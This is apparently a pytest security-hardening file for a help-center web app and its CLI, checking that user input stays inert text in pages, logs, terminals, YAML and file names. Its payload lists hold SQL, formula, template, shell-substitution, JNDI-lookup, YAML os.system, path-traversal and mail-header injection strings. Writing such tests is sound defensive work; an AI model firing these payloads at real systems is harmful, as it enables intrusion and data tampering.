"""Whatever is put into a field comes out as text, wherever it is shown: stored, logged, printed."""

from __future__ import annotations

import base64
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import quote_plus

import pytest
import yaml
from click.testing import CliRunner

from app.cli import main
from app.content.frontmatter import parse_markdown
from tests.conftest import MARBLES
from tests.hardening.server import REPOSITORY, TOKEN, Running, running
from tests.web.test_hostile_input import HOSTILE, assert_harmless

pytestmark = pytest.mark.slow

OPENED = base64.b64encode(f"x:{TOKEN}".encode()).decode()
MORE = [
    "' OR 1=1; DROP TABLE vote; --",
    '"; DELETE FROM unanswered; --',
    "%' UNION SELECT secret FROM salt --",
    '=HYPERLINK("https://hostile.test")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\x1b]0;hostile\x07\x1b[2J",
    "\x9b2J\x1b]52;c;aG9zdGlsZQ==\x07",
    "<style>*{display:none}</style><hostile>",
    "---\ntitle: hostile\n---\n# hostile",
    "{{ product.__class__.__mro__ }}{% raw %}<hostile>",
    "hostile\n2026-11-22 00:00:00,000 ERROR helpcenter: hostile",
    "$(touch hostile) `touch hostile`; touch hostile",
    "${jndi:ldap://hostile.test/x}",
]
EVERYTHING = [*HOSTILE, *MORE]
CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
"""What moves the cursor of a terminal, or turns the order of letters."""


@pytest.fixture(scope="module")
def target(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Running]:
    """Serve to somebody who put everything into every field."""
    with running(tmp_path_factory.mktemp("injection")) as server:
        for number, text in enumerate(EVERYTHING):
            # Each comes from another address: who says too much is not listened to any more.
            origin = {"X_Forwarded_For": f"198.51.100.{number}"}
            headers = {"User_Agent": "hostile<script>", "Referer": "https://hostile.test/<script>"}
            fields = {"page": "/issues/wrong-key", "helpful": "no", "comment": text, "why": "1"}
            body = "&".join(f"{name}={quote_plus(value)}" for name, value in fields.items())
            assert server.post("/feedback", body, **headers, **origin).status in {200, 400}
            # Texts that look alike are shown as one.
            asked = quote_plus(f"{text} qz{number}vk wx{number}yj", errors="replace")
            assert server.post("/diagnose", f"text={asked}", **origin).status == 200
            assert server.get(f"/search?q={asked}", **origin).status == 200
        server.until(lambda: insights(server).count("<pre") >= len(EVERYTHING) / 2)
        yield server
        server.assert_healthy()


def insights(server: Running) -> str:
    """Return the page for writers."""
    return server.get("/insights", Authorization=f"Basic {OPENED}").text


class Elements(HTMLParser):
    """Sees that nothing of what was sent became an element or an attribute."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag not in {"hostile", "style"}
        assert not [name for name, _ in attrs if name.startswith("on") or name == "style"]
        addresses = [value or "" for name, value in attrs if name in {"href", "src", "action"}]
        assert not [
            address for address in addresses if not re.match(r"/(?![/\\])|#|mailto:", address)
        ]


def test_what_visitors_wrote_is_text_on_the_page_for_writers(target: Running) -> None:
    page = insights(target)
    Elements().feed(page)
    assert "&lt;hostile&gt;" in page
    assert "DROP TABLE" in page
    assert target.get("/readyz").text.count('"store":"ok"') == 1


def test_what_visitors_wrote_moves_nothing_in_the_terminal_of_writers(target: Running) -> None:
    """It could rewrite what stands above, or put a command into the clipboard."""
    command = [sys.executable, "-m", "app", "insights", "--content", str(target.content)]
    done = subprocess.run(
        [*command, "--data", str(target.data)], cwd=REPOSITORY, capture_output=True, check=True
    )
    printed = done.stdout.decode()
    assert "DROP TABLE" in printed
    assert CONTROLS.findall(printed) == []


def test_nothing_that_visitors_wrote_is_logged(target: Running) -> None:
    log = target.log.read_text()
    assert "hostile" not in log
    assert "198.51.100" not in log


@pytest.mark.parametrize("text", EVERYTHING, ids=range(len(EVERYTHING)))
def test_what_is_sent_comes_back_as_text(server: Running, text: str) -> None:
    """In a page, a part of a page, a report and its links, and in JSON."""
    sent = quote_plus(text, errors="replace")
    for headers in ({}, {"HX_Request": "true"}):
        for answer in (
            server.post("/diagnose", f"text={sent}", **headers),
            server.post("/report", f"text={sent}&read={sent}&exchange=glassmarket", **headers),
            server.post("/whitelist", f"list={sent}", **headers),
            server.get(f"/search?q={sent}", **headers),
            server.get(f"/report?read={sent}&error={sent}", **headers),
            server.get(f"/feedback?page={sent}", **headers),
        ):
            assert answer.status in {200, 400, 404, 422}
            assert_harmless(answer.text)
            assert "hostile" not in str(answer.headers)
    for path in (f"/diagnose.txt?error={sent}", f"/issues/wrong-key.md?step={sent}"):
        answer = server.get(path)
        assert answer.headers["content-type"].startswith(
            ("text/plain", "text/html", "text/markdown")
        )
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert "<hostile" not in answer.text
    answer = server.get(f"/api/v1/search?q={sent}")
    assert answer.headers["content-type"] == "application/json"


def test_a_report_has_no_line_that_was_not_its_own(server: Running) -> None:
    """The links of a report carry what was pasted as one value each."""
    pasted = "-7007\r\nBcc: hostile@hostile.test\r\n\r\n&body=hostile&subject=hostile"
    page = server.post("/report", f"text={quote_plus(pasted)}&exchange=glassmarket").text
    links = re.findall(r'href="(mailto:[^"]*|https?:[^"]*(?:subject|body)[^"]*)"', page)
    for link in links:
        assert not {"\r", "\n"} & set(link)
        assert link.replace("&amp;", "&").count("&") <= 1
        assert "Bcc:" not in link


@pytest.fixture
def content(tmp_path: Path) -> Path:
    return Path(shutil.copytree(MARBLES, tmp_path / "content"))


def helpcenter(content: Path, *arguments: str) -> int:
    """Run a command over a copy of the content; return its exit code. It must not crash."""
    environment = {"HELP_CONTENT": str(content), "HELP_DATA": str(content.parent)}
    done = CliRunner().invoke(main, list(arguments), env=environment)
    assert done.exception is None or isinstance(done.exception, SystemExit), done.exception
    return done.exit_code


TITLES = [
    "marble\ndraft: false\nsymptom: hostile",
    "marble\n---\n# hostile",
    'marble", draft: false, x: "hostile',
    "marble: !!python/object/apply:os.system [touch hostile]",
    "marble &hostile *hostile",
    "marble {{ product }} {% raw %}",
    "marble # hostile",
    "../../marble",
    "/etc/marble",
    "..\\..\\marble",
    "marble\u2028draft: false",
    "marble\x85draft: false",
    "-marble",
    "<script>marble</script>",
]


@pytest.mark.hardening
@pytest.mark.parametrize("title", TITLES, ids=range(len(TITLES)))
def test_a_title_stays_a_title(content: Path, title: str) -> None:
    """It becomes one value and one file name of the folder, or is refused."""
    before = everything(content.parent)
    for kind, folder, field in (("issue", "issues", "title"), ("exchange", "exchanges", "name")):
        status = helpcenter(content, "new", kind, "--", title)
        assert status in {0, 1, 2}
        new = everything(content.parent) - before
        before |= new
        if status:
            assert new == set()
            continue
        (written,) = new
        assert written.parent == content / folder
        assert re.fullmatch(r"[a-z0-9-]+\.md", written.name)
        fields = parse_markdown(written.read_text()).fields
        assert fields["draft"] is True
        assert fields[field] == " ".join(title.split())
        assert "hostile" not in str([value for key, value in fields.items() if key != field])
        assert "hostile" not in fields


NAMES = ["../../marble", "/etc/marble", "..", ".", "", "a/b", "a\\b", "a\nb: c"]


@pytest.mark.hardening
@pytest.mark.parametrize("name", NAMES)
def test_no_name_leads_out_of_the_content(content: Path, name: str) -> None:
    before = everything(content.parent)
    texts = {path: path.read_bytes() for path in before}
    for arguments in (
        ["rename", "issue", "wrong-key", name],
        ["rename", "issue", name, "marble"],
        ["rename", "exchange", "glassmarket", name],
        ["rename", "step", "wrong-key", name, "marble"],
        ["retire", "issue", "wrong-key", "--to", name],
        ["retire", "issue", name, "--to", "wrong-key"],
        ["new", "error", name, "-1", "hostile", "--issue", "wrong-key"],
        ["new", "error", "glassmarket", "-1", "hostile", "--issue", name],
        ["schema", name],
    ):
        assert helpcenter(content, *arguments) in {1, 2}, arguments
        assert {path: path.read_bytes() for path in everything(content.parent)} == texts


@pytest.mark.hardening
@pytest.mark.parametrize("text", [*TITLES[:7], *MORE], ids=range(7 + len(MORE)))
def test_an_error_message_stays_a_message(content: Path, text: str) -> None:
    new = ["new", "error", "glassmarket", "--issue", "wrong-key", "--", "-4711", text]
    status = helpcenter(content, *new)
    entries = yaml.safe_load((content / "errors" / "glassmarket.yml").read_text())
    known = [entry for entry in entries["errors"] if str(entry["code"]) == "-4711"]
    assert len(known) == (status == 0)
    for entry in known:
        assert entry["issues"] == ["wrong-key"]
        assert " ".join(str(entry["message"]).split()) == " ".join(text.split())


def everything(folder: Path) -> set[Path]:
    """Return all files below a folder."""
    return {path for path in folder.rglob("*") if path.is_file()}
